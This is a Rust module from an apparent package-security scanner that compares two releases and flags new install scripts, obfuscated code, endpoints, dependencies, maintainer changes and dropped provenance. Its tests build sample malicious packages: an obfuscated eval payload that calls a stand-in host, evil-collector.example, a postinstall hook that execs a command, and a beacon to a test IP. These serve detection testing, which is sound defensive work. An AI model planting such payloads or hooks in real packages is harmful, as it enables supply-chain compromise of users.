//! Version diff: what a new release adds compared with the previous one. A patch release
//! that adds an obfuscated blob to an entry file, a new install script, a new endpoint,
//! a new dependency, a different maintainer or a publish without provenance after
//! releases with it: that is what the chalk/debug and many token-theft incidents looked
//! like. Registry facts come from the caller ([`RegistryMeta`]) so this needs no network.

use std::collections::{BTreeMap, BTreeSet, HashMap};
use std::path::Path;

use serde::{Deserialize, Serialize};
use serde_json::Value;

use crate::manifest::LIFECYCLE;
use crate::{ids, PackageFile, ScanOptions, ScanReport, Signal, StaticError};

/// Signal ids of the diff (kept beside the others in spirit; never rename).
pub mod diff_ids {
    pub const NEW_INSTALL_SCRIPT: &str = "diff-new-install-script";
    pub const NEW_OBFUSCATED_FILE: &str = "diff-new-obfuscated-file";
    pub const NEW_ENDPOINT: &str = "diff-new-endpoint";
    pub const NEW_DEPENDENCY: &str = "diff-new-dependency";
    pub const MAINTAINER_CHANGE: &str = "diff-maintainer-change";
    pub const PROVENANCE_DROPPED: &str = "diff-provenance-dropped";
}

/// Code signals that mark a file as obfuscated or payload-carrying.
const OBFUSCATION_IDS: &[&str] = &[
    ids::OBFUSCATED,
    ids::HEX_IDENTIFIERS,
    ids::STRING_ARRAY_ROTATION,
    ids::OBFUSCATOR_PATTERN,
    ids::DECODE_EVAL,
    ids::HIGH_ENTROPY,
    ids::BASE64_BLOB,
    ids::HEX_BLOB,
    ids::LONG_LINE,
    ids::WHITESPACE_PADDING,
    ids::ESCAPED_STRINGS,
    ids::WALLET_REGEX,
    ids::WALLET_HOOK,
];

/// Registry facts per version, filled by the caller from the packument.
#[derive(Debug, Clone, Default, Serialize, Deserialize)]
pub struct RegistryMeta {
    /// Maintainer (publisher) names per version.
    pub maintainers: BTreeMap<String, Vec<String>>,
    /// Whether each version was published with provenance (npm attestations).
    pub has_provenance: BTreeMap<String, bool>,
}

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct FileChange {
    pub path: String,
    pub old_size: Option<u64>,
    pub new_size: Option<u64>,
}

/// What changed between two versions.
#[derive(Debug, Clone, Default, Serialize, Deserialize)]
pub struct DiffSummary {
    /// `version` of each side's package.json, when it has one.
    pub old_version: Option<String>,
    pub new_version: Option<String>,
    pub added: Vec<FileChange>,
    pub removed: Vec<FileChange>,
    pub changed: Vec<FileChange>,
    pub new_install_scripts: Vec<String>,
    pub new_obfuscated_files: Vec<String>,
    pub new_endpoints: Vec<String>,
    pub new_dependencies: Vec<String>,
    pub maintainer_change: Option<String>,
    pub provenance_dropped: bool,
    /// The findings above as `static` signals (for the trace).
    pub signals: Vec<Signal>,
}

fn manifest_of(files: &[PackageFile]) -> Value {
    files
        .iter()
        .find(|f| f.rel == "package.json")
        .and_then(|f| f.bytes.as_deref())
        .and_then(|b| serde_json::from_slice(b).ok())
        .unwrap_or(Value::Null)
}

fn obfuscation_by_file(r: &ScanReport) -> HashMap<&str, BTreeSet<&str>> {
    let mut m: HashMap<&str, BTreeSet<&str>> = HashMap::new();
    for s in &r.signals {
        if OBFUSCATION_IDS.contains(&s.signal.as_str()) {
            m.entry(s.file.as_str())
                .or_default()
                .insert(s.signal.as_str());
        }
    }
    m
}

fn endpoints(r: &ScanReport) -> BTreeMap<String, &Signal> {
    let mut m = BTreeMap::new();
    for s in &r.signals {
        let key = match s.signal.as_str() {
            x if x == ids::ENDPOINT_URL => {
                crate::code::url_host(&s.detail).unwrap_or_else(|| s.detail.clone())
            }
            x if x == ids::ENDPOINT_IP => s.detail.split(' ').next().unwrap_or("").to_string(),
            _ => continue,
        };
        m.entry(key).or_insert(s);
    }
    m
}

/// Compares the package unpacked at `old` with the one at `new`. `meta` gives the
/// registry facts and the (old, new) versions to look them up under.
pub fn diff_dirs(
    old: &Path,
    new: &Path,
    opts: &ScanOptions,
    meta: Option<(&RegistryMeta, &str, &str)>,
) -> Result<DiffSummary, StaticError> {
    let (o, n) = (crate::read_dir(old, opts)?, crate::read_dir(new, opts)?);
    Ok(diff_files(&o, &n, opts, meta))
}

/// Compares two package archives (npm `.tgz`, sdist, wheel) read in memory, like
/// [`crate::scan_archive`]: nothing is unpacked on the host.
pub fn diff_archives(
    old: &Path,
    new: &Path,
    opts: &ScanOptions,
    meta: Option<(&RegistryMeta, &str, &str)>,
) -> Result<DiffSummary, StaticError> {
    let (o, n) = (
        crate::read_archive(old, opts)?,
        crate::read_archive(new, opts)?,
    );
    Ok(diff_files(&o, &n, opts, meta))
}

/// Compares two packages, each a directory or an archive ([`crate::read_package`]).
pub fn diff_paths(
    old: &Path,
    new: &Path,
    opts: &ScanOptions,
    meta: Option<(&RegistryMeta, &str, &str)>,
) -> Result<DiffSummary, StaticError> {
    let (o, n) = (
        crate::read_package(old, opts)?,
        crate::read_package(new, opts)?,
    );
    Ok(diff_files(&o, &n, opts, meta))
}

const DEP_SECTIONS: &[&str] = &["dependencies", "optionalDependencies", "peerDependencies"];

/// Compares two packages already in memory (see [`crate::read_package`]).
pub fn diff_files(
    old: &[PackageFile],
    new: &[PackageFile],
    opts: &ScanOptions,
    meta: Option<(&RegistryMeta, &str, &str)>,
) -> DiffSummary {
    let mut d = DiffSummary::default();
    let oh: BTreeMap<&str, &PackageFile> = old.iter().map(|f| (f.rel.as_str(), f)).collect();
    let nh: BTreeMap<&str, &PackageFile> = new.iter().map(|f| (f.rel.as_str(), f)).collect();
    for (p, f) in &nh {
        match oh.get(p) {
            None => d.added.push(FileChange {
                path: p.to_string(),
                old_size: None,
                new_size: Some(f.size),
            }),
            Some(o) if o.sha256 != f.sha256 => d.changed.push(FileChange {
                path: p.to_string(),
                old_size: Some(o.size),
                new_size: Some(f.size),
            }),
            _ => {}
        }
    }
    for (p, f) in &oh {
        if !nh.contains_key(p) {
            d.removed.push(FileChange {
                path: p.to_string(),
                old_size: Some(f.size),
                new_size: None,
            });
        }
    }

    let (om, nm) = (manifest_of(old), manifest_of(new));
    d.old_version = om.get("version").and_then(Value::as_str).map(String::from);
    d.new_version = nm.get("version").and_then(Value::as_str).map(String::from);
    for hook in LIFECYCLE {
        let o = om
            .get("scripts")
            .and_then(|s| s.get(*hook))
            .and_then(Value::as_str);
        if let Some(n) = nm
            .get("scripts")
            .and_then(|s| s.get(*hook))
            .and_then(Value::as_str)
        {
            if o != Some(n) {
                let what = if o.is_some() { "changed" } else { "new" };
                d.new_install_scripts.push(format!("{hook}: {n}"));
                d.signals.push(Signal::new(
                    diff_ids::NEW_INSTALL_SCRIPT,
                    "package.json",
                    None,
                    format!("{what} {hook} script: {n}"),
                ));
            }
        }
    }
    for section in DEP_SECTIONS {
        let Some(deps) = nm.get(*section).and_then(Value::as_object) else {
            continue;
        };
        for (name, spec) in deps {
            let spec = spec.as_str().unwrap_or("");
            let before = DEP_SECTIONS
                .iter()
                .find_map(|s| om.get(*s).and_then(|d| d.get(name)))
                .map(|v| v.as_str().unwrap_or(""));
            // A known dependency that now bypasses the registry counts as new.
            let escapes = crate::manifest::classify_dep_spec(spec);
            let what = match before {
                None => "new".to_string(),
                Some(b) if escapes.is_some() && crate::manifest::classify_dep_spec(b).is_none() => {
                    format!(
                        "now from a {} (was {b})",
                        escapes.map(|e| e.1).unwrap_or("URL")
                    )
                }
                Some(_) => continue,
            };
            d.new_dependencies.push(format!("{name}@{spec}"));
            d.signals.push(
                Signal::new(
                    diff_ids::NEW_DEPENDENCY,
                    "package.json",
                    None,
                    format!("{section} {name}: {spec} ({what})"),
                )
                .with_value(if *section == "optionalDependencies" {
                    1.0
                } else {
                    0.0
                }),
            );
        }
    }

    let start = std::time::Instant::now();
    let (or, nr) = (
        crate::scan_files(old, opts, start),
        crate::scan_files(new, opts, start),
    );
    let (oo, no) = (obfuscation_by_file(&or), obfuscation_by_file(&nr));
    let mut files: Vec<_> = no.iter().collect();
    files.sort();
    for (file, sigs) in files {
        let before = oo.get(file);
        let fresh: Vec<&str> = sigs
            .iter()
            .copied()
            .filter(|s| before.is_none_or(|b| !b.contains(s)))
            .collect();
        if !fresh.is_empty() {
            d.new_obfuscated_files.push(file.to_string());
            let how = match (before.is_some(), oh.contains_key(file)) {
                (true, _) => "changed file",
                (false, true) => "file clean before",
                (false, false) => "new file",
            };
            d.signals.push(
                Signal::new(
                    diff_ids::NEW_OBFUSCATED_FILE,
                    file,
                    None,
                    format!("{how} {file} now shows: {}", fresh.join(", ")),
                )
                .with_value(fresh.len() as f64),
            );
        }
    }
    let (oe, ne) = (endpoints(&or), endpoints(&nr));
    for (key, s) in &ne {
        if !oe.contains_key(key) {
            d.new_endpoints.push(key.clone());
            d.signals.push(Signal::new(
                diff_ids::NEW_ENDPOINT,
                &s.file,
                s.line,
                format!("new endpoint {key}: {}", s.detail),
            ));
        }
    }

    if let Some((meta, ov, nv)) = meta {
        if let (Some(a), Some(b)) = (meta.maintainers.get(ov), meta.maintainers.get(nv)) {
            let a: BTreeSet<_> = a.iter().collect();
            let b: BTreeSet<_> = b.iter().collect();
            let added: Vec<_> = b.difference(&a).map(|s| s.as_str()).collect();
            if !added.is_empty() {
                let msg = format!(
                    "{nv} published by new maintainer(s) {} (had {})",
                    added.join(", "),
                    a.into_iter()
                        .map(String::as_str)
                        .collect::<Vec<_>>()
                        .join(", ")
                );
                d.maintainer_change = Some(msg.clone());
                d.signals.push(Signal::new(
                    diff_ids::MAINTAINER_CHANGE,
                    "package.json",
                    None,
                    msg,
                ));
            }
        }
        let earlier_with = meta.has_provenance.iter().any(|(v, p)| {
            *p && v != nv && crate::audit::cmp_version(v, nv) == std::cmp::Ordering::Less
        });
        if earlier_with && meta.has_provenance.get(nv) == Some(&false) {
            d.provenance_dropped = true;
            d.signals.push(Signal::new(
                diff_ids::PROVENANCE_DROPPED,
                "package.json",
                None,
                format!("{nv} was published without provenance after releases with provenance"),
            ));
        }
    }
    d
}

#[cfg(test)]
mod tests {
    use super::*;

    fn write(root: &Path, rel: &str, text: &str) {
        let p = root.join(rel);
        if let Some(parent) = p.parent() {
            std::fs::create_dir_all(parent).expect("mkdir");
        }
        std::fs::write(p, text).expect("write");
    }

    const CLEAN: &str = "'use strict';\nmodule.exports = function color(s) { return '\\u001b[31m' + s + '\\u001b[39m'; };\n";

    /// The chalk/debug shape: a patch release appends an obfuscated payload to the entry.
    #[test]
    fn patch_release_adding_obfuscated_blob() {
        let (a, b) = (
            tempfile::tempdir().expect("tmp"),
            tempfile::tempdir().expect("tmp"),
        );
        let manifest = |v: &str, extra: &str| {
            format!("{{\"name\":\"colorish\",\"version\":\"{v}\",\"main\":\"index.js\"{extra}}}\n")
        };
        write(a.path(), "package.json", &manifest("1.0.0", ""));
        write(a.path(), "index.js", CLEAN);
        write(a.path(), "README.md", "# colorish\n");
        write(
            b.path(),
            "package.json",
            &manifest("1.0.1", ",\"dependencies\":{\"helper\":\"^1.0.0\"}"),
        );
        write(b.path(), "README.md", "# colorish\n");
        let ids: String = (0..12)
            .map(|i| format!("var _0x{:04x}{i}=_0x1a2b[{i}];", 0x3f00 + i))
            .collect();
        let payload = format!(
            "{CLEAN}const _0x1a2b=['a','b','c','d','e','f','g','h','i','j','k','l'];{ids}\neval(atob(_0x1a2b.join('')));fetch('https://evil-collector.example/p');\n"
        );
        write(b.path(), "index.js", &payload);
        let meta = RegistryMeta {
            maintainers: BTreeMap::from([
                ("1.0.0".into(), vec!["alice".into()]),
                ("1.0.1".into(), vec!["alice".into(), "mallory".into()]),
            ]),
            has_provenance: BTreeMap::from([("1.0.0".into(), true), ("1.0.1".into(), false)]),
        };
        let d = diff_dirs(
            a.path(),
            b.path(),
            &ScanOptions::default(),
            Some((&meta, "1.0.0", "1.0.1")),
        )
        .expect("diff");
        assert_eq!(d.new_obfuscated_files, vec!["index.js".to_string()]);
        assert_eq!(d.new_endpoints, vec!["evil-collector.example".to_string()]);
        assert_eq!(d.new_dependencies, vec!["helper@^1.0.0".to_string()]);
        assert!(d.new_install_scripts.is_empty());
        assert_eq!(
            d.changed
                .iter()
                .map(|c| c.path.as_str())
                .collect::<Vec<_>>(),
            vec!["index.js", "package.json"]
        );
        assert!(d.added.is_empty() && d.removed.is_empty());
        assert!(d
            .maintainer_change
            .as_deref()
            .is_some_and(|m| m.contains("mallory")));
        assert!(d.provenance_dropped);
        let sig: BTreeSet<&str> = d.signals.iter().map(|s| s.signal.as_str()).collect();
        for id in [
            diff_ids::NEW_OBFUSCATED_FILE,
            diff_ids::NEW_ENDPOINT,
            diff_ids::NEW_DEPENDENCY,
            diff_ids::MAINTAINER_CHANGE,
            diff_ids::PROVENANCE_DROPPED,
        ] {
            assert!(sig.contains(id), "{id} missing: {sig:?}");
        }
    }

    #[test]
    fn identical_versions_and_new_install_script() {
        let (a, b) = (
            tempfile::tempdir().expect("tmp"),
            tempfile::tempdir().expect("tmp"),
        );
        for r in [a.path(), b.path()] {
            write(r, "index.js", CLEAN);
        }
        write(
            a.path(),
            "package.json",
            "{\"name\":\"x\",\"scripts\":{\"test\":\"jest\"}}",
        );
        write(
            b.path(),
            "package.json",
            "{\"name\":\"x\",\"scripts\":{\"test\":\"jest\",\"postinstall\":\"node setup.js\"}}",
        );
        write(
            b.path(),
            "setup.js",
            "require('child_process').exec('id');\n",
        );
        let d = diff_dirs(a.path(), b.path(), &ScanOptions::default(), None).expect("diff");
        assert_eq!(
            d.new_install_scripts,
            vec!["postinstall: node setup.js".to_string()]
        );
        assert_eq!(d.added.len(), 1);
        assert!(
            d.new_obfuscated_files.is_empty()
                && d.new_endpoints.is_empty()
                && !d.provenance_dropped
        );
        let same = diff_dirs(a.path(), a.path(), &ScanOptions::default(), None).expect("diff");
        assert!(same.signals.is_empty() && same.changed.is_empty());
    }

    /// A gzip tarball of `dir` under `package/`, like `npm pack` writes.
    fn pack(dir: &Path, dest: &Path) {
        let file = std::fs::File::create(dest).expect("create");
        let gz = flate2::write::GzEncoder::new(file, flate2::Compression::fast());
        let mut tar = tar::Builder::new(gz);
        tar.append_dir_all("package", dir).expect("append");
        tar.into_inner().expect("tar").finish().expect("gz");
    }

    #[test]
    fn archives_diff_like_directories_without_unpacking() {
        let (a, b, out) = (
            tempfile::tempdir().expect("tmp"),
            tempfile::tempdir().expect("tmp"),
            tempfile::tempdir().expect("tmp"),
        );
        write(
            a.path(),
            "package.json",
            "{\"name\":\"x\",\"version\":\"1.0.0\",\"dependencies\":{\"dep\":\"^1.0.0\"}}",
        );
        write(a.path(), "index.js", CLEAN);
        write(b.path(), "package.json", "{\"name\":\"x\",\"version\":\"1.0.1\",\"dependencies\":{\"dep\":\"github:mallory/dep#0123abc\"}}");
        write(b.path(), "index.js", CLEAN);
        write(
            b.path(),
            "lib/beacon.js",
            "module.exports=()=>fetch('https://203.0.113.9/x');\n",
        );
        let (ta, tb) = (out.path().join("a.tgz"), out.path().join("b.tgz"));
        pack(a.path(), &ta);
        pack(b.path(), &tb);
        let from_dirs = diff_dirs(a.path(), b.path(), &ScanOptions::default(), None).expect("dirs");
        let from_tgz = diff_archives(&ta, &tb, &ScanOptions::default(), None).expect("tgz");
        let mixed = diff_paths(a.path(), &tb, &ScanOptions::default(), None).expect("mixed");
        for d in [&from_dirs, &from_tgz, &mixed] {
            assert_eq!(d.old_version.as_deref(), Some("1.0.0"));
            assert_eq!(d.new_version.as_deref(), Some("1.0.1"));
            assert_eq!(
                d.added.iter().map(|c| c.path.as_str()).collect::<Vec<_>>(),
                ["lib/beacon.js"]
            );
            assert_eq!(
                d.changed
                    .iter()
                    .map(|c| c.path.as_str())
                    .collect::<Vec<_>>(),
                ["package.json"]
            );
            // An existing dependency that now comes from a git ref is reported.
            assert_eq!(d.new_dependencies, ["dep@github:mallory/dep#0123abc"]);
            assert_eq!(d.new_endpoints, ["203.0.113.9"]);
        }
        assert_eq!(from_dirs.signals, from_tgz.signals);
        // Nothing was written next to the archives.
        let names: Vec<_> = std::fs::read_dir(out.path())
            .expect("ls")
            .map(|e| e.expect("e").file_name())
            .collect();
        assert_eq!(names.len(), 2);
    }

    #[test]
    fn not_an_archive_is_an_error() {
        let t = tempfile::tempdir().expect("tmp");
        let f = t.path().join("x.tgz");
        std::fs::write(&f, "not a tarball").expect("write");
        let e = diff_archives(&f, &f, &ScanOptions::default(), None).expect_err("must fail");
        assert!(e.to_string().contains("x.tgz"), "{e}");
    }
}
